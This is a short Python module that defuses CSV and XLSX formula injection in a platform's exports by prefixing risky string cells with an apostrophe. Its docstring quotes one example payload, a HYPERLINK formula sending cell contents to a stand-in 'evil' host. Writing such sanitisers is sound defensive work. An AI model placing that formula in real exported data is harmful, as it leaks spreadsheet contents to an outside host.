"""Cells a spreadsheet would run, made inert: every CSV or XLSX the platform writes goes through here.

Values the platform exports often come from outside (a supplier's name, an
invoice label, a file name): ``=HYPERLINK("http://evil/?"&A1)`` written as is
becomes a live formula when the file is opened in Excel or LibreOffice (CSV
injection, OWASP). A text starting with one of the characters spreadsheets read
as a formula gets a leading apostrophe, which they show as text and which a
reader sees for what it is. Plain numbers such as ``-12,50`` stay numbers.

An XLSX writer must pass its string cells through ``inert`` too: openpyxl stores
any string starting with ``=`` as a formula.

No import of the platform's apps, so the lowest layer can use it.
"""

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def inert(value):
    """``value``, or the text of it a spreadsheet keeps as text when it would run it."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def inert_row(values):
    return [inert(value) for value in values]
